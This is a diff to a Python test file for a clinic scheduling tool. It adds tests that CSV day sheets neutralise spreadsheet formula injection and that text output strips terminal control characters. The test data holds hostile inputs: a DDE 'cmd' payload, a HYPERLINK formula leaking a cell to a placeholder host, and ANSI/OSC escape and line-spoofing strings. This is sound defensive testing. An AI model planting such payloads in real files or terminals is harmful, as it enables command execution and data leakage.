@@ -6,6 +6,7 @@ import csv
 import datetime as dt
 import io
 import os
+import re
 import sqlite3
 import stat
 import threading
@@ -13,9 +14,10 @@ import time
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, strategies as st
 
 import agenda
-from conftest import MADRID, MONDAY, SECRET, Clock, send, sign, valid_dni
+from conftest import CLINIC_CSV, MADRID, MONDAY, SECRET, Clock, send, sign, valid_dni
 from openapi_contract import checked
 
 
@@ -239,9 +241,63 @@ def test_day_sheet_as_csv_for_a_spreadsheet_and_by_center(api, runner):
     assert [(row["time"], row["doctor_id"], row["patient"], row["status"]) for row in rows] == [
         ("09:00", "RUIZ", "Luis", "booked"),  # doctors by name: Javier Ruiz, then Lucía Martín
         ("09:00", "MARTIN", "Ana García", "booked"), ("09:30", "MARTIN", "José Núñez", "confirmed")]
-    assert rows[1]["date"] == "24/11/2026" and rows[1]["phone"] == "+34612345678"
+    # a phone's leading + would start a formula: the ' keeps it text, shown as +34612345678
+    assert rows[1]["date"] == "24/11/2026" and rows[1]["phone"] == "'+34612345678"
     other_center = invoke(runner, "day", "24/11/2026", "--center", "C2")
     assert other_center.output.startswith("Tuesday 24/11/2026, center C2: 0 appointments")
+
+
+HOSTILE_CELLS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"ver")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "-2+3", "+34+1", "\tTAB=1+1", "\r=1+1"]
+HOSTILE_TERMINAL = ["\x1b[2JBorrado", "\x1b]0;titulo\x07Ana", "\x1b]8;;http://x.invalid\x1b\\enlace\x1b]8;;\x1b\\",
+                    "Dolor\n  09:30  Falsa Cita  +34600000000  confirmed  Revisión", "\u202eodatnemurtsni", "a\x00b\x7fc"]
+
+
+def hostile_day(make_api, doctor_name):
+    """A day whose doctor (from the catalog), patients' names and reasons (through the API) are hostile."""
+    api = make_api(csv=CLINIC_CSV.replace("Lucía Martín", '"' + doctor_name.replace('"', '""') + '"'))
+    texts = HOSTILE_CELLS + HOSTILE_TERMINAL
+    for n, text in enumerate(texts[:4]):
+        patient = api.new_patient(nif=valid_dni(10 + n), name=text, surname=texts[-1 - n], phone=None)
+        api.book(patient, time=("09:00", "09:30", "10:00", "10:30")[n], reason=texts[4 + n])
+    return api
+
+
+@pytest.mark.parametrize("doctor_name", ["=cmd|' /C calc'!A0", "@SUM(1)", "\x1b[31mRojo"])
+def test_the_day_sheets_csv_neutralises_every_cell_a_spreadsheet_would_run(make_api, runner, doctor_name):
+    hostile_day(make_api, doctor_name)
+    result = invoke(runner, "day", "2026-11-24", "--csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.output)))
+    assert len(rows) == 5
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(agenda.FORMULA_STARTS)], cells
+    patients = [row[6] for row in rows[1:]]
+    assert [cell[:1] for cell in patients] == ["'"] * 4 and patients[0].startswith("'=cmd|' /C calc'!A0 ")
+    assert [row[8] for row in rows[1:]][0::2] == ["'+34+1", "'=1+1"] and rows[1][4] != doctor_name
+    assert result.output.startswith('"date","time","end","doctor_id",')  # every cell quoted
+
+
+@pytest.mark.parametrize("doctor_name", ["\x1b]0;owned\x07Lucía", "Lucía\nMARTIN  09:00  Falso"])
+def test_the_day_sheets_text_strips_control_characters_and_keeps_each_appointment_on_its_line(
+        make_api, runner, doctor_name):
+    hostile_day(make_api, doctor_name)
+    result = invoke(runner, "day", "2026-11-24")
+    assert result.exit_code == 0, result.output
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.output), repr(result.output)
+    lines = result.output.splitlines()
+    assert lines[0] == "Tuesday 24/11/2026, all centers: 4 appointments"
+    appointments = [line for line in lines if re.match(r"  \d\d:\d\d  ", line)]
+    assert [line[2:7] for line in appointments] == ["09:00", "09:30", "10:00", "10:30"]
+    assert len([line for line in lines if line and not line.startswith("  ")]) == 2  # the title and one doctor
+
+
+@given(st.text())
+def test_a_sheet_cell_never_starts_a_formula_and_reads_back_as_written(text):
+    rows = list(csv.reader(io.StringIO(agenda.sheet_csv(["x"], [[text]]), newline="")))
+    value = rows[1][0] if len(rows) > 1 else ""
+    assert not value.startswith(agenda.FORMULA_STARTS)
+    assert value == text or value == "'" + text
 
 
 def test_day_sheet_defaults_to_today_in_clinic_time(api, runner):
